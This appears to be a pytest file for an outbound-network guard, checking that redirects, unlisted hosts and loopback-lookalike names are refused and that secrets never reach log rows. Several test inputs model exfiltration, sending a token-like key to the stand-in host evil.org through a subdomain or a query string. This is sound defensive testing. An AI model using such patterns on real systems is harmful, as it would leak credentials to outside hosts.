"""What the other side, a name or a secret may try: still a row for whatever was sent, never the secret."""

import socket
import threading
from contextlib import ExitStack

import pytest
from kept_log import KeptLog, allowing, asking, door, told
from knowledge_server import Service, redirect

from toolkit.egress.guard import EgressRefused, watched
from toolkit.egress.log import Clerk
from toolkit.egress.outgoing import Refused
from toolkit.egress.policy import NOTHING, Policy, address_of, is_loopback
from toolkit.failure import Failure

KEY = "sk-proj-Ab12cd34ef56gh78"


def connected() -> None:
    with socket.socket() as made:
        made.settimeout(0.01)
        made.connect(("192.0.2.1", 443))  # of a block that leads nowhere (RFC 5737)


@pytest.mark.parametrize("target", ["http://[", "http://[evil.org", "//[::"])
def test_a_redirect_to_no_address_is_refused_after_the_row_of_what_was_sent(service: Service, target: str):
    service.then = redirect(target)
    sent, log = door()

    assert isinstance(sent.send(asking(service.url)), Refused)
    assert [(row.status, row.allowed) for row in log.rows] == [(302, True), (None, False)]


def test_a_listed_name_that_cannot_be_looked_up_is_a_failure_with_a_row():
    name = f"{'a' * 70}.example"
    sent, log = door(name)

    assert isinstance(sent.send(asking(f"http://{name}/")), Failure)
    assert log.only.error


def test_a_secret_in_the_name_of_a_host_is_in_no_row_and_in_no_answer(service: Service):
    service.then = redirect(f"http://{KEY}.evil.org/")
    sent, log = door()
    refused = sent.send(asking(service.url))

    assert KEY.lower() not in f"{refused} {[told(row) for row in log.rows]}".lower()


def test_a_secret_for_a_host_that_is_not_listed_leaves_no_digest_either():
    rows = []
    for last in "89":
        sent, log = door()
        sent.send(asking(f"https://evil.org/?q={KEY[:-1]}{last}"))
        rows.append(log.only)

    assert rows[0] == rows[1]


def test_a_secret_of_the_environment_is_not_in_the_row(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("SERVICE_TOKEN", "correct horse")
    sent, log = door()
    sent.send(asking("http://127.0.0.1:9/", "who says correct horse"))

    assert "correct horse" not in str(told(log.only))


def test_a_kept_payload_of_a_model_on_this_machine_has_no_secret_of_the_environment(
    monkeypatch: pytest.MonkeyPatch,
):
    monkeypatch.setenv("SERVICE_TOKEN", "correct horse")
    log, said = KeptLog(), asking("http://127.0.0.1:9/", "correct horse", body=b"correct horse")
    Clerk(log, Policy(keep_payloads=True), said, address_of(said.url)).sending().came(200)

    assert log.only.payload is not None
    assert "correct horse" not in str(told(log.only))


@pytest.mark.parametrize("host", ["127.0.0.1%evil.org", "127.0.0.1%25evil.org"])
def test_a_name_that_begins_like_this_machine_is_not_this_machine(host: str):
    assert not is_loopback(host)


def test_of_two_runs_at_once_each_ends_its_own_watch():
    first, second = ExitStack(), ExitStack()
    first.enter_context(watched(allowing("192.0.2.1"), KeptLog()))
    log = KeptLog()
    second.enter_context(watched(NOTHING, log))
    first.close()

    with second, pytest.raises(EgressRefused):
        connected()
    assert len(log.rows) == 1


def test_a_thread_from_before_the_run_is_watched_too():
    begin, seen = threading.Event(), list[str]()

    def later() -> None:
        begin.wait(5)
        try:
            connected()
        except (EgressRefused, OSError) as error:
            seen.append(type(error).__name__)

    thread = threading.Thread(target=later)
    thread.start()
    with watched(NOTHING, KeptLog()):
        begin.set()
        thread.join()

    assert seen == ["EgressRefused"]
